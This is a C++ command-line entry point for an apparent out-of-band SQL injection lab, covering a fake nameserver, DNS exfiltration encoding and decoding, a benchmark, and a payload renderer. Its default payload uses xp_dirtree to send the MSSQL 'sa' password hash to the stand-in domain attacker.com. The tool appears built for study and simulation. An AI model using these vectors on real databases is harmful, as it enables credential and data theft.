#include <atomic>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <map>
#include <mutex>
#include <set>
#include <thread>

#include <CLI11.hpp>

#include "dnsexfil/attacker.hpp"
#include "dnsexfil/bench.hpp"
#include "dnsexfil/exfil_codec.hpp"
#include "dnsexfil/nameserver.hpp"
#include "dnsexfil/payload_gen.hpp"

using namespace dnsexfil;

namespace {

std::atomic<bool> g_interrupted{false};

void on_signal(int) {
    g_interrupted.store(true);
}

std::string default_dns_domain() {
    const char* env = std::getenv("EXFIL_DNS_DOMAIN");
    return env ? env : "";
}

std::string hex_of(std::span<const std::uint8_t> data) {
    return codec::hex_encode(data);
}

int cmd_serve(const std::string& domain, const std::string& bind, std::uint16_t port,
              const std::string& dummy_ip, const std::string& log_path, int session_ttl) {
    ns::ServerConfig cfg;
    cfg.dns_domain = wire::DomainName::from_text(domain);
    cfg.bind_address = bind;
    cfg.port = port;
    cfg.dummy_ip = wire::Ipv4::parse(dummy_ip);
    cfg.session_ttl = std::chrono::seconds(session_ttl);
    cfg.capture_log_path = log_path;

    ns::UdpNameserver server(cfg);
    server.start();
    std::fprintf(stderr, "serving %s on %s:%u, capture log %s (ctrl-c to stop)\n",
                 domain.c_str(), bind.c_str(), server.port(), log_path.c_str());

    std::signal(SIGINT, on_signal);
    std::signal(SIGTERM, on_signal);
    while (!g_interrupted.load()) {
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
        if (auto err = server.log_error()) {
            std::fprintf(stderr, "warning: %s\n", err->c_str());
        }
    }
    server.stop();
    std::fprintf(stderr, "stopped after %llu datagrams (%llu frames)\n",
                 static_cast<unsigned long long>(server.core().datagrams_seen()),
                 static_cast<unsigned long long>(server.core().frames_seen()));
    return 0;
}

int cmd_demo(const std::string& domain_text, const std::string& dbms_name, std::uint64_t seed,
             bool seeded, std::size_t row, std::size_t col, const std::string& fixture_csv) {
    auto domain = wire::DomainName::from_text(domain_text);
    auto dbms = payload::dbms_from_string(dbms_name);
    auto fixture = fixture_csv.empty() ? bench::builtin_fixture()
                                       : sim::FixtureTable::from_csv(fixture_csv, "fixture");
    if (row >= fixture.rows.size() || col >= fixture.columns.size()) {
        std::fprintf(stderr, "cell (%zu,%zu) outside fixture (%zu rows x %zu columns)\n", row,
                     col, fixture.rows.size(), fixture.columns.size());
        return 1;
    }
    const std::string& expected = fixture.rows[row][col];

    ns::ServerConfig scfg;
    scfg.dns_domain = domain;
    scfg.port = 0; // ephemeral

    ns::UdpNameserver server(scfg);
    std::mutex events_mutex;
    std::vector<ns::CaptureEvent> events;
    server.core().set_event_sink([&](const ns::CaptureEvent& e) {
        std::lock_guard lock(events_mutex);
        events.push_back(e);
    });
    server.start();

    std::printf("== stage 1: fake authoritative nameserver ==\n");
    if (seeded) {
        std::printf("listening on 127.0.0.1 (udp), domain %s\n", domain_text.c_str());
    } else {
        std::printf("listening on 127.0.0.1:%u (udp), domain %s\n", server.port(),
                    domain_text.c_str());
    }

    ns::UdpUpstream upstream("127.0.0.1", server.port());
    sim::SimTarget target(fixture, upstream, sim::SimConfig{}, seed);

    Rng marker_rng(seed);
    attack::DnsDumpContext ctx{server.core(), domain, dbms, marker_rng};

    std::string cell_expr = attack::cell_subquery(fixture, row, col);
    std::printf("\n== stage 2: dumping cell (%zu,%zu) via %s ==\n", row, col,
                std::string(payload::to_string(dbms)).c_str());

    attack::DnsItemResult item;
    try {
        item = attack::dns_exfil_expression(target, ctx, cell_expr);
    } catch (const std::exception& e) {
        std::fprintf(stderr, "exfiltration failed: %s\n", e.what());
        server.stop();
        return 1;
    }
    server.stop();

    for (std::size_t i = 0; i < item.vectors.size(); ++i) {
        std::printf("\ninjected vector for frame %zu:\n%s\n", i, item.vectors[i].c_str());
    }

    std::printf("\n== stage 3: captures at the nameserver ==\n");
    {
        std::lock_guard lock(events_mutex);
        for (const auto& e : events) {
            if (e.kind == ns::CaptureKind::frame) {
                std::printf("frame %u/%u  qname=%s%s\n", e.seq + 1, e.total, e.qname.c_str(),
                            e.item_complete ? "  [item complete]" : "");
            } else {
                std::printf("%s  qname=%s\n", std::string(to_string(e.kind)).c_str(),
                            e.qname.c_str());
            }
        }
    }

    std::string decoded(item.data.begin(), item.data.end());
    std::printf("\n== stage 4: reassembled item ==\n");
    std::printf("marker   : %s:%s\n", item.markers.prefix.c_str(), item.markers.suffix.c_str());
    std::printf("hex      : %s\n", hex_of(item.data).c_str());
    std::printf("decoded  : %s\n", decoded.c_str());
    std::printf("expected : %s\n", expected.c_str());
    std::printf("%s\n", decoded == expected ? "MATCH" : "MISMATCH");
    return decoded == expected ? 0 : 1;
}

int cmd_bench(bench::BenchConfig cfg, const std::string& format) {
    auto report = bench::run_bench(cfg);
    if (format == "json") {
        std::printf("%s\n", bench::render_json(report).c_str());
    } else {
        std::printf("%s", bench::render_table(report).c_str());
    }
    for (const auto& row : report.rows) {
        if (!row.content_ok) {
            std::fprintf(stderr, "error: %s did not recover the fixture byte-exactly\n",
                         std::string(attack::to_string(row.stats.technique)).c_str());
            return 1;
        }
    }
    if (report.ordering_ok && !*report.ordering_ok) {
        std::fprintf(stderr, "error: request-count ordering violated\n");
        return 1;
    }
    return 0;
}

int cmd_payload(const std::string& dbms_name, const std::string& sub_name,
                const std::string& query, const std::string& domain_text,
                const std::string& literal, bool list) {
    auto dbms = payload::dbms_from_string(dbms_name);
    if (list) {
        for (const auto& s : payload::list_subroutines(dbms)) {
            std::printf("%s%s%s\n", s.name.c_str(), s.windows_only ? "  [windows-only]" : "",
                        s.reconstructed ? "  [reconstructed]" : "");
        }
        return 0;
    }
    const auto& sub = payload::find_subroutine(dbms, sub_name);
    payload::PayloadVector vec;
    if (!literal.empty()) {
        vec = payload::render_literal(sub, literal);
    } else {
        vec = payload::render_vector(sub, query, wire::DomainName::from_text(domain_text));
    }
    std::printf("%s\n", vec.sql.c_str());
    return 0;
}

int cmd_encode(const std::string& data_hex, const std::string& file, const std::string& domain,
               std::uint64_t seed) {
    std::vector<std::uint8_t> data;
    if (!file.empty()) {
        std::ifstream in(file, std::ios::binary);
        if (!in) {
            std::fprintf(stderr, "cannot open %s\n", file.c_str());
            return 1;
        }
        data.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
    } else {
        data = codec::hex_decode(data_hex);
    }
    Rng rng(seed);
    auto markers = codec::new_marker_pair(rng);
    codec::FrameBudget budget(wire::DomainName::from_text(domain));
    for (const auto& name : codec::build_frames(data, markers, budget)) {
        std::printf("%s\n", name.to_string().c_str());
    }
    return 0;
}

int cmd_decode(std::vector<std::string> names, const std::string& domain) {
    if (names.empty()) {
        std::string line;
        while (std::getline(std::cin, line)) {
            if (!line.empty()) names.push_back(line);
        }
    }
    codec::FrameBudget budget(wire::DomainName::from_text(domain));
    codec::SessionRegistry registry;
    std::map<codec::MarkerPair, std::set<std::uint32_t>> seen;
    bool any_output = false;
    for (const auto& text : names) {
        auto frame = codec::parse_frame(wire::DomainName::from_text(text), budget);
        if (!frame) {
            std::fprintf(stderr, "not a frame under %s: %s\n", domain.c_str(), text.c_str());
            return 1;
        }
        seen[frame->markers].insert(frame->seq_index);
        if (auto item = registry.ingest(*frame, std::chrono::steady_clock::now())) {
            std::printf("%s\n", hex_of(item->data).c_str());
            any_output = true;
        }
    }
    bool incomplete = false;
    for (const auto& dropped : registry.drain()) {
        incomplete = true;
        std::string missing;
        const auto& got = seen[dropped.markers];
        for (std::uint32_t i = 0; i < dropped.total; ++i) {
            if (got.count(i)) continue;
            if (!missing.empty()) missing += ",";
            missing += std::to_string(i);
        }
        std::fprintf(stderr, "incomplete item %s:%s: %u of %u frames, missing seq %s\n",
                     dropped.markers.prefix.c_str(), dropped.markers.suffix.c_str(),
                     dropped.received, dropped.total, missing.c_str());
    }
    if (incomplete) return 1;
    if (!any_output) {
        std::fprintf(stderr, "no complete items\n");
        return 1;
    }
    return 0;
}

} // namespace

int main(int argc, char** argv) {
    CLI::App app{"out-of-band SQL injection laboratory: DNS exfiltration channel, "
                 "fake authoritative nameserver, and retrieval-technique benchmark"};
    app.require_subcommand(1);

    std::string dns_domain = default_dns_domain();
    std::uint64_t seed = 0;

    // serve
    auto* serve = app.add_subcommand("serve", "run the fake authoritative nameserver");
    std::string bind = "127.0.0.1";
    std::uint16_t port = 5353;
    std::string dummy_ip = "192.0.2.1";
    std::string log_path = "capture.jsonl";
    int session_ttl = 60;
    auto* serve_domain =
        serve->add_option("--dns-domain", dns_domain, "controlled domain")->capture_default_str();
    serve->add_option("--bind", bind, "bind address")->capture_default_str();
    serve->add_option("--port", port, "udp port (0 = ephemeral)")->capture_default_str();
    serve->add_option("--dummy-ip", dummy_ip, "address in dummy answers")->capture_default_str();
    serve->add_option("--log", log_path, "capture log (jsonl)")->capture_default_str();
    serve->add_option("--session-ttl", session_ttl, "seconds before an idle item is dropped")
        ->capture_default_str();

    // demo
    auto* demo = app.add_subcommand("demo",
                                    "single-cell exfiltration end to end over loopback udp");
    std::string dbms = "mssql";
    std::size_t row = 0;
    std::size_t col = 1;
    std::string fixture_csv;
    demo->add_option("--dns-domain", dns_domain, "controlled domain")->capture_default_str();
    demo->add_option("--dbms", dbms, "mssql|oracle|mysql|postgresql")->capture_default_str();
    auto* demo_seed = demo->add_option("--seed", seed, "fix all randomness");
    demo->add_option("--row", row, "fixture row")->capture_default_str();
    demo->add_option("--col", col, "fixture column")->capture_default_str();
    demo->add_option("--fixture", fixture_csv, "fixture csv (default: builtin)");

    // bench
    auto* benchcmd = app.add_subcommand("bench", "speed comparison of the retrieval techniques");
    std::vector<std::string> technique_names;
    std::string format = "table";
    std::int64_t time_delay_ms = 1000;
    std::size_t error_chunk = 64;
    int charset_bits = 7;
    bool dns_udp = false;
    std::string bench_fixture;
    benchcmd->add_option("--dns-domain", dns_domain, "controlled domain")->capture_default_str();
    benchcmd->add_option("--dbms", dbms, "dbms whose vectors the dns technique uses")
        ->capture_default_str();
    benchcmd->add_option("--seed", seed, "fix all randomness")->capture_default_str();
    benchcmd->add_option("--techniques", technique_names,
                         "subset to run (default: all)")->delimiter(',');
    benchcmd->add_option("--format", format, "table|json")->capture_default_str();
    benchcmd->add_option("--time-delay-ms", time_delay_ms, "time-based delay")
        ->capture_default_str();
    benchcmd->add_option("--error-chunk", error_chunk, "error-based bytes per request")
        ->capture_default_str();
    benchcmd->add_option("--charset-bits", charset_bits, "7 or 8")->capture_default_str();
    benchcmd->add_flag("--udp-dns", dns_udp, "run the dns leg over real loopback udp");
    benchcmd->add_option("--fixture", bench_fixture, "fixture csv (default: builtin)");
    std::int64_t page_cost_ms = 10;
    std::int64_t resolve_latency_ms = 5;
    benchcmd->add_option("--page-cost-ms", page_cost_ms, "virtual cost per page render")
        ->capture_default_str();
    benchcmd->add_option("--resolve-latency-ms", resolve_latency_ms,
                         "virtual cost per upstream resolution")
        ->capture_default_str();

    // payload
    auto* payloadcmd = app.add_subcommand("payload", "render a provoking vector");
    std::string sub_name = "xp_dirtree";
    std::string query = "SELECT TOP 1 master.dbo.fn_varbintohexstr(password_hash) FROM "
                        "sys.sql_logins WHERE name='sa'";
    std::string literal;
    bool list_subs = false;
    payloadcmd->add_option("--dbms", dbms, "mssql|oracle|mysql|postgresql")
        ->capture_default_str();
    payloadcmd->add_option("--sub", sub_name, "subroutine name")->capture_default_str();
    payloadcmd->add_option("--query", query, "inner query (precalculation form)")
        ->capture_default_str();
    payloadcmd->add_option("--dns-domain", dns_domain, "controlled domain")
        ->capture_default_str();
    payloadcmd->add_option("--literal", literal, "render the literal form with this argument");
    payloadcmd->add_flag("--list", list_subs, "list subroutines for the dbms");

    // encode / decode
    auto* encode = app.add_subcommand("encode", "turn bytes into exfiltration query names");
    std::string data_hex;
    std::string data_file;
    encode->add_option("--data", data_hex, "payload as hex");
    encode->add_option("--file", data_file, "payload from a file");
    encode->add_option("--dns-domain", dns_domain, "controlled domain")->capture_default_str();
    encode->add_option("--seed", seed, "marker seed")->capture_default_str();

    auto* decode = app.add_subcommand("decode", "reassemble query names back into bytes");
    std::vector<std::string> decode_names;
    decode->add_option("names", decode_names, "frame fqdns (or stdin, one per line)");
    decode->add_option("--dns-domain", dns_domain, "controlled domain")->capture_default_str();

    try {
        app.parse(argc, argv);
    } catch (const CLI::ParseError& e) {
        if (e.get_exit_code() == 0) return app.exit(e); // --help
        app.exit(e);
        return 2;
    }

    try {
        if (app.got_subcommand(serve)) {
            if (dns_domain.empty()) {
                std::fprintf(stderr, "serve requires --dns-domain (or EXFIL_DNS_DOMAIN)\n");
                return 2;
            }
            (void)serve_domain;
            return cmd_serve(dns_domain, bind, port, dummy_ip, log_path, session_ttl);
        }
        if (app.got_subcommand(demo)) {
            if (dns_domain.empty()) dns_domain = "attacker.com";
            return cmd_demo(dns_domain, dbms, seed, demo_seed->count() > 0, row, col,
                            fixture_csv);
        }
        if (app.got_subcommand(benchcmd)) {
            if (dns_domain.empty()) dns_domain = "attacker.com";
            bench::BenchConfig cfg;
            cfg.seed = seed;
            cfg.dns_domain = dns_domain;
            cfg.dbms = payload::dbms_from_string(dbms);
            for (const auto& name : technique_names) {
                cfg.techniques.push_back(bench::technique_from_string(name));
            }
            cfg.technique.time_delay_ms = time_delay_ms;
            cfg.technique.error_chunk_bytes = error_chunk;
            cfg.technique.charset_bits = charset_bits;
            cfg.sim.page_cost_ms = page_cost_ms;
            cfg.sim.resolve_latency_ms = resolve_latency_ms;
            cfg.dns_over_udp = dns_udp;
            cfg.fixture_csv = bench_fixture;
            if (format != "table" && format != "json") {
                std::fprintf(stderr, "--format must be table or json\n");
                return 2;
            }
            return cmd_bench(std::move(cfg), format);
        }
        if (app.got_subcommand(payloadcmd)) {
            if (dns_domain.empty()) dns_domain = "attacker.com";
            return cmd_payload(dbms, sub_name, query, dns_domain, literal, list_subs);
        }
        if (app.got_subcommand(encode)) {
            if (dns_domain.empty()) dns_domain = "attacker.com";
            if (data_hex.empty() && data_file.empty()) {
                std::fprintf(stderr, "encode requires --data or --file\n");
                return 2;
            }
            return cmd_encode(data_hex, data_file, dns_domain, seed);
        }
        if (app.got_subcommand(decode)) {
            if (dns_domain.empty()) dns_domain = "attacker.com";
            return cmd_decode(decode_names, dns_domain);
        }
    } catch (const ns::BindFailed& e) {
        std::fprintf(stderr, "error: %s\n", e.what());
        return 1;
    } catch (const std::exception& e) {
        std::fprintf(stderr, "error: %s\n", e.what());
        return 1;
    }
    return 2;
}
